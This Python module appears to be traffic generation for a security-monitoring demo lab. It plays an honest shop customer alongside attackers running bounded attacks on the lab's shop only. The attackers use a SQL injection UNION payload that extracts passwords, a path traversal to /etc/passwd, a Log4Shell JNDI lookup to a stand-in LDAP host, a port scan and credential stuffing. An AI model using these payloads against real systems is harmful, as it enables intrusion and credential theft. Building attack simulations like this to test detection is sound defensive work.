"""Who comes to the demo's shop: an honest customer, and an attacker with one address for each attack.

Run inside a host's namespace as `python -m sentinel.demo.visitors ROLE ...`; prints one JSON object.
All loops are bounded in count and time, and talk to the demo's shop only.
"""

from __future__ import annotations

import http.client
import json
import socket
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote, urlencode

from sentinel.demo.lab import ATTACKERS, SHOP

if TYPE_CHECKING:
    from collections.abc import Callable

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
PORT = 80
TIMEOUT_SECONDS = 2.0
SCANNED_PORTS = range(1, 201)
STUFFED_ACCOUNTS = 60
LONGEST_VISIT_SECONDS = 110.0


def request(
    method: str,
    target: str,
    *,
    source: str = "",
    port: int = PORT,
    body: str = "",
    headers: dict[str, str] | None = None,
) -> int | None:
    """Status of one request, None when nobody answered in time."""
    connection = http.client.HTTPConnection(
        SHOP, port, timeout=TIMEOUT_SECONDS, source_address=(source, 0) if source else None
    )
    form = {"Content-Type": "application/x-www-form-urlencoded"} if body else {}
    try:
        connection.request(method, target, body or None, {"User-Agent": BROWSER, **form, **(headers or {})})
        answer = connection.getresponse()
        answer.read()
        return answer.status
    except OSError:
        return None
    finally:
        connection.close()


def sql_injection() -> dict[str, object]:
    payload = quote("lamp' UNION SELECT username, password, 3 FROM users-- -")
    return {"status": request("GET", f"/search?q={payload}", source=ATTACKERS[0])}


def path_traversal() -> dict[str, object]:
    return {"status": request("GET", "/static/..%2f..%2f..%2f..%2fetc/passwd", source=ATTACKERS[1])}


def log4shell() -> dict[str, object]:
    lookup = "${jndi:ldap://203.0.113.68:1389/a}"
    return {"status": request("GET", "/products", source=ATTACKERS[2], headers={"User-Agent": lookup})}


def port_scan() -> dict[str, object]:
    """Half a second of connection attempts to closed ports, not waiting for any answer."""
    sockets = []
    for port in SCANNED_PORTS:
        link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        link.setblocking(False)
        link.bind((ATTACKERS[3], 0))
        link.connect_ex((SHOP, port))
        sockets.append(link)
    time.sleep(0.5)
    for link in sockets:
        link.close()
    return {"ports": len(sockets)}


def credential_stuffing() -> dict[str, object]:
    """Stops when it is cut off: the first attempt nobody answers."""
    answered = 0
    for number in range(STUFFED_ACCOUNTS):
        form = urlencode({"user": f"user{number}@mail.example", "password": f"Summer{number}!"})
        if request("POST", "/login", source=ATTACKERS[4], body=form) is None:
            break
        answered += 1
        time.sleep(0.05)
    return {"attempts_answered": answered, "planned": STUFFED_ACCOUNTS}


def knock(source: str, port: str = str(PORT)) -> dict[str, object]:
    started = time.monotonic()
    status = request("GET", "/", source=source, port=int(port))
    return {"status": status, "seconds": round(time.monotonic() - started, 2)}


def customer(stay: str) -> dict[str, object]:
    """An honest visitor while the file `stay` exists: the count of each answer (0 is a time-out), the slowest in ms."""
    answers: dict[str, int] = {}
    slowest = 0.0
    deadline = time.monotonic() + LONGEST_VISIT_SECONDS
    pages = ("/", "/products", "/search?q=lamp", "/cart")
    number = 0
    while time.monotonic() < deadline and Path(stay).exists():
        started = time.monotonic()
        status = request("GET", pages[number % len(pages)]) or 0
        slowest = max(slowest, time.monotonic() - started)
        answers[str(status)] = answers.get(str(status), 0) + 1
        number += 1
        time.sleep(0.1)
    return {"answers": answers, "slowest_ms": round(slowest * 1000)}


ROLES: dict[str, Callable[..., dict[str, object]]] = {
    "sql-injection": sql_injection,
    "path-traversal": path_traversal,
    "log4shell": log4shell,
    "port-scan": port_scan,
    "credential-stuffing": credential_stuffing,
    "knock": knock,
    "customer": customer,
}

if __name__ == "__main__":
    print(json.dumps(ROLES[sys.argv[1]](*sys.argv[2:])))  # noqa: T201 - the answer to the demo
